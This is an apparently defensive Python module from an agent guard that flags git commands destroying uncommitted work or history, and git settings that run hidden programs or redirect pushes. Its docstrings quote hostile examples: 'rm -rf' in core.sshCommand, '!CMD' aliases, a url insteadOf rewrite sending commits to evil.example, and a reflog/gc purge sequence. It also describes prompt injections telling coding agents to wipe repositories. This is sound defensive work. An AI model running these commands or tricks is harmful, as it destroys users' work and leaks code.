"""Git commands that destroy work git cannot give back: ``action.git_destroy`` (ask).

:func:`git_destruction` reads one ``git`` command's arguments (as :mod:`.shell` parsed them:
wrappers removed, variables expanded, ``sh -c`` strings read) and says why it destroys work,
or None. Pure: no I/O.

What git itself cannot undo, by subcommand (git-scm.com reference pages):

* ``reset --hard``: uncommitted changes in the index and working tree are overwritten;
* ``clean`` (unless ``-n``/``--dry-run``): untracked files are deleted (``-x`` ignored ones
  too, ``-d`` directories); asked also without ``-f``, since ``clean.requireForce=false`` and
  ``-i`` fed from a pipe delete as well;
* ``checkout``/``restore`` of the whole tree or a directory (``.``, ``:/``, ``*``, ``dir/``),
  and ``checkout -f``/``switch -f``/``--discard-changes``: working-tree changes are
  overwritten. One named file is not asked about: an agent reverting its own edit to a file
  is ordinary work, as deleting a file inside the project is; ``restore --staged`` only
  unstages;
* ``push`` that rewrites or deletes remote history: ``--force``/``-f``,
  ``--force-with-lease``, ``--mirror``, ``--delete``/``-d``, ``--prune``, a ``+`` refspec
  (forced) or ``:ref`` (deleted). Other collaborators' commits on the remote are lost;
* ``branch -D`` (``-d --force``, ``-M``): an unmerged branch deleted or overwritten;
* ``stash drop``/``clear``: stashed work, unreachable after;
* ``reflog expire --expire...``, ``reflog delete``, ``gc --prune=now``, ``prune``: the
  reflog and unreachable objects are git's own undo; removing them makes the destruction
  above final (the sequence ``reflog expire --expire=now --all && gc --prune=now`` is the
  documented way to purge);
* ``filter-branch``, ``filter-repo``, ``update-ref -d``: history rewritten, refs deleted.

An alias given on the command line (``git -c alias.x='reset --hard' x``) is read as what it
stands for. Attack class: an injected instruction asking an agent with a shell to "clean up
the repository" (the July 2025 Amazon Q Developer extension prompt asked for a
near-factory-state wipe; coding agents have run ``git reset --hard`` and ``git checkout .``
over users' uncommitted work). Ask, as ``git push``: the same commands are ordinary when the
user asks for them.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from functools import lru_cache
from typing import Any

from cordon.engine.action_names import split_tokens

__all__ = [
    "GIT_VALUE",
    "config_command",
    "config_setting",
    "git_destruction",
    "git_tool_destruction",
    "rewrite_base",
    "rewrites",
]

#: git's own options (before the subcommand) that take the next word as their value, per
#: git(1) and git.c's handle_options: ``-C <path>``, ``-c <name>=<value>``, ``--git-dir``,
#: ``--work-tree``, ``--namespace``, ``--super-prefix``, ``--config-env <name>=<envvar>`` and
#: ``--attr-source`` take it as the next word or after ``=``. ``--exec-path[=<path>]`` and
#: ``--list-cmds=<group>`` take a value only after ``=`` (``git --exec-path`` alone prints
#: the path): the next word is the subcommand.
GIT_VALUE = frozenset(
    {"-C", "-c", "--git-dir", "--work-tree", "--namespace", "--config-env", "--super-prefix",
     "--attr-source"}
)  # fmt: skip
#: pathspecs that cover the whole tree or a directory, not one named file
_BROAD_RE = re.compile(r"\.{1,2}/?|:/.*|:\(.*|.*[*?\[].*|.*/")
_PRUNE_NOW_RE = re.compile(r"now|all|never|0.*|\d+\.(?:seconds?|minutes?|hours?)(?:\.ago)?")


def _subcommand(args: tuple[str, ...]) -> tuple[str, tuple[str, ...]] | None:
    """(subcommand, its arguments) after git's own options; an alias set with ``-c`` is
    replaced by its words (a ``!`` alias is a shell command, read as such elsewhere)."""
    aliases: dict[str, str] = {}
    i = 0
    while i < len(args):
        a = args[i]
        if a in GIT_VALUE and i + 1 < len(args):
            if a == "-c":
                key, _, value = args[i + 1].partition("=")
                if key.lower().startswith("alias."):
                    aliases[key[6:].lower()] = value
            i += 2
            continue
        if not a.startswith("-"):
            alias = aliases.get(a.lower())
            if alias is not None and not alias.startswith("!"):
                words = tuple(alias.split())
                return (words[0], words[1:] + args[i + 1 :]) if words else None
            return a, args[i + 1 :]
        i += 1
    return None


def _flags(args: tuple[str, ...]) -> tuple[set[str], list[str], list[str]]:
    """(option names, with each bundled short option split: ``-fdx`` -> -f -d -x; the
    positionals before ``--``; the words after ``--``)."""
    names: set[str] = set()
    plain: list[str] = []
    for k, a in enumerate(args):
        if a == "--":
            return names, plain, list(args[k + 1 :])
        if a.startswith("--"):
            names.add(a.partition("=")[0])
            if a.startswith(("--expire", "--prune=")):
                names.add(a)
        elif a.startswith("-") and len(a) > 1:
            names.update("-" + c for c in a[1:])
        else:
            plain.append(a)
    return names, plain, []


def git_destruction(args: tuple[str, ...]) -> str | None:
    """Why ``git ARGS`` destroys work git cannot give back (module docstring), or None."""
    found = _subcommand(args)
    if found is None:
        return None
    sub, rest = found
    names, plain, paths = _flags(rest)
    if sub == "reset":
        return "git reset --hard discards uncommitted changes" if "--hard" in names else None
    if sub == "clean":
        if names & {"-n", "--dry-run"}:
            return None
        return "git clean deletes untracked files"
    if sub in ("checkout", "restore", "switch"):
        return _worktree(sub, names, plain, paths)
    if sub == "push":
        return _push(names, plain)
    if sub == "branch":
        forced_delete = "-D" in names or (names & {"-d", "--delete"} and names & {"-f", "--force"})
        if forced_delete or "-M" in names:
            return "git branch -D deletes (or -M overwrites) a branch that may be unmerged"
        return None
    if sub == "stash" and plain[:1] in (["drop"], ["clear"]):
        return f"git stash {plain[0]} deletes stashed work"
    if sub == "reflog" and (
        plain[:1] == ["delete"]
        or (plain[:1] == ["expire"] and any(n.startswith("--expire") for n in names))
    ):
        return "git reflog expire/delete removes what git undoes destruction with"
    if sub == "gc" and any(
        n.startswith("--prune=") and _PRUNE_NOW_RE.fullmatch(n[8:].lower()) for n in names
    ):
        return "git gc --prune=now deletes unreachable commits at once"
    if sub == "prune" and not names & {"-n", "--dry-run"}:
        return "git prune deletes unreachable objects"
    if sub in ("filter-branch", "filter-repo") or (sub == "update-ref" and "-d" in names):
        return f"git {sub} rewrites history or deletes a ref"
    setting = config_setting(rest) if sub == "config" else None
    key, _, value = (setting or "").partition("=")
    if key.lower().startswith("alias.") and not value.startswith("!"):
        inner = git_destruction(tuple(value.split()))  # (git config alias.tidy 'reset --hard')
        return f"an alias set to a command that destroys work: {inner}" if inner else None
    return None


def _worktree(sub: str, names: set[str], plain: list[str], paths: list[str]) -> str | None:
    if names & {"-f", "--force", "--discard-changes"}:
        return f"git {sub} --force discards working-tree changes"
    if sub == "switch":
        return None
    if sub == "restore" and names & {"-S", "--staged"} and not names & {"-W", "--worktree"}:
        return None  # (unstages only)
    specs = [*paths, *plain]  # (checkout: a branch name is not broad; restore: all are paths)
    if any(_BROAD_RE.fullmatch(p) for p in specs) or "--pathspec-from-file" in names:
        return f"git {sub} of the whole tree or a directory discards working-tree changes"
    return None


def _push(names: set[str], plain: list[str]) -> str | None:
    forced = names & {"-f", "--force", "--force-with-lease", "--mirror", "-d", "--delete"}
    if forced or "--prune" in names:
        return "a forced push (or a remote delete) rewrites or removes remote history"
    refspecs = plain[1:]  # (the first positional is the remote)
    if any(r.startswith(("+", ":")) and len(r) > 1 for r in refspecs):
        return "a + or : refspec force-updates or deletes a remote branch"
    return None


#: configuration keys (lower case) whose value is a command git runs
_COMMAND_KEYS = frozenset(
    {"core.sshcommand", "core.pager", "core.editor", "core.fsmonitor", "core.askpass",
     "sequence.editor", "diff.external", "gpg.program", "gpg.ssh.program"}
)  # fmt: skip
_COMMAND_KEY_RE = re.compile(r"pager\..+|filter\..+\.(?:clean|smudge|process)|diff\..+\.textconv"
                             r"|diff\..+\.command|merge\..+\.driver")  # fmt: skip


def config_command(setting: str) -> str | None:
    """The shell command a ``git -c KEY=VALUE`` setting makes git run, or None.

    Attack class: a command hidden in configuration given on git's command line (``git -c
    core.sshCommand='rm -rf ~/x' fetch``, ``-c core.fsmonitor=CMD status``, ``-c
    alias.x='!CMD' x``, a filter or textconv driver), as ``GIT_SSH_COMMAND`` is in the
    environment. A ``!`` alias or credential helper is a shell snippet; others a command."""
    key, eq, value = setting.partition("=")
    key = key.lower()
    if not eq or not value or value.lower() in ("true", "false", "0", "1", "yes", "no"):
        return None
    if key.startswith("alias.") or key.startswith("credential."):
        return value[1:] if value.startswith("!") else None
    return value if key in _COMMAND_KEYS or _COMMAND_KEY_RE.fullmatch(key) else None


#: keys (lower case) whose value names programs or files git runs or loads, besides the
#: command keys above (git-config(1)): ``core.hooksPath`` (a directory whose hooks git
#: runs), ``core.gitProxy``, ``credential.helper`` (a helper name is a program,
#: ``git-credential-NAME``), ``include.path``/``includeIf.*.path`` (a file read as more
#: configuration), ``uploadpack.packObjectsHook``, ``mergetool.*.cmd``/``difftool.*.cmd``,
#: ``sendemail.*cmd``, an alias or ``submodule.*.update`` (a ``!`` value is a shell
#: command; the value may be unknown here: ``GIT_CONFIG_KEY_0=alias.x``),
#: ``trailer.*.command``, ``core.alternateRefsCommand``, ``gpg.*.program``,
#: ``remote.*.uploadpack``/``receivepack``/``vcs`` (a program, a remote helper),
#: ``init.templateDir`` (hooks copied into a new repository), ``browser.*.cmd``
_RUN_KEY_RE = re.compile(
    r"core\.(?:hookspath|gitproxy)|credential\.(?:.+\.)?helper|include(?:if\..+)?\.path"
    r"|uploadpack\.packobjectshook|(?:merge|diff)tool\..+\.cmd|sendemail\.(?:.+\.)?\w*cmd"
    r"|alias\..+|submodule\..+\.update|trailer\..+\.(?:command|cmd)|core\.alternaterefscommand"
    r"|gpg\.(?:.+\.)?program|gpg\.ssh\.defaultkeycommand|remote\..+\.(?:uploadpack|receivepack|vcs)"
    r"|init\.templatedir|(?:browser|man)\..+\.cmd"
)
#: values that run nothing a command line could not run by name: a pager or editor on the
#: search path called by its common name (or in a system bin directory), ``/dev/null`` (no
#: hooks, no file); a value with another path, shell syntax or another program is asked
_INERT_VALUE_RE = re.compile(
    r"(?:/usr(?:/local)?/bin/|/bin/|/opt/homebrew/bin/)?"  # (EDITOR=/usr/bin/vim: a system copy)
    r"(?:cat|less|more|most|bat|delta|diff-so-fancy|difft|true|false|:|vim?|nvim|nano|emacs"
    r"|micro|hx|code|subl)(?:\s+-[\w-]+(?:=\w+)?)*|/dev/null|",
    re.IGNORECASE,
)
#: ``core.sshCommand``/``GIT_SSH_COMMAND`` set to ssh with its options (a key, a port):
#: what git runs by default, unless an option names a command (``-o ProxyCommand=``,
#: ``LocalCommand``, ``KnownHostsCommand``) or the value holds shell syntax
_PLAIN_SSH_RE = re.compile(r"ssh(?:\s+[^\s;&|`$()<>]+)*")

#: an editor key (``core.editor``, ``sequence.editor``) set to sed with literal scripts
#: (``GIT_SEQUENCE_EDITOR="sed -i 's/^pick/squash/'" git rebase -i``, how a rebase is
#: scripted): the script is read as sed's is (:mod:`.sed_script`: ``e``, ``w`` judged);
#: no ``-f FILE`` (a script no rule reads) and no shell syntax outside the quotes
_SED_EDITOR_RE = re.compile(
    r"sed(?:\s+(?:-[ineErsz]+|-i\.?\w*|--(?:in-place|expression|regexp-extended|quiet|silent)"
    r"|'[^']*'|\"[^\"$`\\]*\"))+"
)
#: the credential helpers git and its installers ship (gitcredentials(7))
_HELPERS_RE = re.compile(
    r"(?:store|cache|osxkeychain|manager|manager-core|libsecret|wincred)(?:\s+--[\w-]+(?:=\S+)?)*"
)


def runs_program(key: str) -> bool:
    """Setting the configuration key ``key`` may make git run a program or load a file it
    names (:data:`_COMMAND_KEYS`, :data:`_RUN_KEY_RE`)."""
    low = key.strip().lower()
    return low in _COMMAND_KEYS or bool(
        _COMMAND_KEY_RE.fullmatch(low) or _RUN_KEY_RE.fullmatch(low)
    )


def setting_runs(setting: str) -> str | None:
    """Why the ``KEY=VALUE`` setting (``git -c``, a ``git config`` write) makes git run a
    program the setting names, or None (``user.name=x``, ``color.ui=always``,
    ``core.hooksPath=/dev/null``, ``core.pager=less``; an alias to git's own words).

    Attack class: ``git -c core.hooksPath=DIR commit`` runs hooks from a directory written
    by the same agent, ``-c core.fsmonitor=CMD status``, ``-c alias.x='!CMD' x``, ``-c
    credential.helper='!CMD'``, ``-c include.path=F`` (a file's settings): a program runs
    that no word of the command line runs by itself (git-config(1))."""
    key, _, value = setting.partition("=")
    low = key.strip().lower()
    if not runs_program(low) or _INERT_VALUE_RE.fullmatch(value.strip()):
        return None
    if low == "core.sshcommand" and _PLAIN_SSH_RE.fullmatch(value.strip()):
        if "command" not in value.lower():
            return None  # (ssh -i ~/.ssh/deploy: the key's read is judged by config_command)
    if low in ("core.editor", "sequence.editor") and _SED_EDITOR_RE.fullmatch(value.strip()):
        return None  # (its script judged where config_command's text is parsed)
    if low.startswith("credential.") and _HELPERS_RE.fullmatch(value.strip()):
        return None  # (git's own helpers: git credential-store, credential-cache ...)
    if low.startswith(("alias.", "submodule.")) and not value.lstrip().startswith("!"):
        return None  # (an alias to git's own words; a submodule updated by checkout/rebase)
    return f"git configuration {key.strip()} makes git run or load {value.strip()[:60]!r}"


#: ``url.<base>.insteadOf``/``pushInsteadOf`` (git-config(1)): a URL starting with the
#: value is fetched from (pushed to) ``<base>`` + the rest instead
_REWRITE_RE = re.compile(r"url\.(.+)\.(?:push)?insteadof", re.IGNORECASE)


def rewrites(key: str) -> bool:
    """The configuration key ``key`` rewrites where git fetches from or pushes to."""
    return _REWRITE_RE.fullmatch(key.strip()) is not None


def rewrite_base(setting: str) -> str | None:
    """Where the ``KEY=VALUE`` setting sends the fetches and pushes of the URLs it rewrites
    (``url.<base>.insteadOf=<old>``: ``<base>``), or None for another setting.

    Attack class: exfiltration to a destination no word of the later command names: ``git
    -c url.https://evil.example/.insteadOf=https://github.com/ push`` (or a ``git config``
    write, then ``git push``) sends the commits to ``evil.example`` while the command names
    ``origin``; asked as a destination change. A rewrite to the same host and path by
    another transport (``git@github.com:`` for ``https://github.com/``) is not one."""
    key, eq, value = setting.partition("=")
    m = _REWRITE_RE.fullmatch(key.strip())
    if m is None or not eq or _place(m.group(1)) == _place(value) != ("", ""):
        return None  # (url.git@github.com:.insteadOf=https://github.com/: ssh, same place)
    return m.group(1)


_PLACE_RE = re.compile(
    r"(?:[a-z][\w+.-]*://)?(?:[\w.~%!$&'()*+,;=-]*@)?([\w.-]+)(?::\d*)?[:/]?(.*)", re.I
)


def _place(url: str) -> tuple[str, str]:
    """(host, path) a URL or ``user@host:path`` names, lower case, ``/`` and ``.git`` off
    the path's ends; ``("", "")`` when it reads as neither."""
    m = _PLACE_RE.fullmatch(url.strip())
    if m is None:
        return "", ""
    return m.group(1).lower(), m.group(2).strip("/").removesuffix(".git").lower()


#: subcommands a git tool's name may carry (``git_reset``, ``gitPush``)
_TOOL_SUBS = ("reset", "clean", "push", "branch", "stash", "checkout", "restore", "switch")
#: argument names (tokens joined) whose string value is the tool's mode (``mode: hard``)
_MODE_KEYS = frozenset({"mode", "op", "action", "operation", "subcommand", "stashsubcommand"})


@lru_cache(maxsize=1024)
def _tool_sub(tool: str) -> str | None:
    tokens = split_tokens(tool)
    if "git" not in tokens:
        return None
    return next((t for t in tokens if t in _TOOL_SUBS), None)


def git_tool_destruction(tool: str, arguments: Mapping[str, Any]) -> str | None:
    """Why a call of a git MCP tool destroys work (:func:`git_destruction` on the command
    its arguments stand for), or None.

    Git MCP servers take git's options as arguments: cyanheads/git-mcp-server's
    ``git_reset`` ``mode: hard`` ("discard all changes"), ``git_clean`` ``force: true``
    (``dryRun`` previews), ``git_push`` ``force``, ``git_branch`` ``mode: delete`` with
    ``force``, ``git_stash`` ``mode: drop|clear``; others ``op``/``action``. A ``true``
    argument is read as its option (``dryRun`` -> ``--dry-run``), a mode as ``--hard`` (a
    stash's as its subcommand). The reference server's ``git_reset`` (index only, no mode)
    reads as ``git reset``: nothing destroyed."""
    sub = _tool_sub(tool)  # (cached per name: most tools are no git tool)
    if sub is None:
        return None
    words = [sub]
    for k, v in arguments.items():
        key = "-".join(split_tokens(str(k)))
        if v is True:
            words.append("--" + key)
        elif isinstance(v, str) and v and key.replace("-", "") in _MODE_KEYS:
            words.append(v.lower() if sub == "stash" else "--" + v.lower())
    return git_destruction(tuple(words))


#: ``git config`` options that take the next word as their value
_CONFIG_VALUE = frozenset({"-f", "--file", "--blob", "--type", "--default", "--comment"})


def config_setting(args: tuple[str, ...]) -> str | None:
    """``KEY=VALUE`` that ``git config ARGS`` writes (``git config [--global] KEY VALUE``,
    ``git config set KEY VALUE``), or None (a read, an unset, a list).

    Attack class: configuration written in one call and used by a later one (``git config
    core.sshCommand CMD`` then ``git fetch``; ``git config alias.tidy 'reset --hard'`` then
    ``git tidy``): judged when it is written, as ``git -c`` is."""
    plain: list[str] = []
    i = 0
    while i < len(args):
        a = args[i]
        if a in _CONFIG_VALUE:
            i += 1
        elif a.startswith("-") and a not in ("--add", "--replace-all"):
            if a in ("--unset", "--unset-all", "--get", "--get-all", "--list", "-l", "-e"):
                return None
        elif not a.startswith("-"):
            plain.append(a)
        i += 1
    if plain[:1] == ["set"]:
        plain = plain[1:]
    if len(plain) < 2 or plain[0] in ("get", "unset", "list", "edit", "rename-section"):
        return None
    return f"{plain[0]}={' '.join(plain[1:2])}"
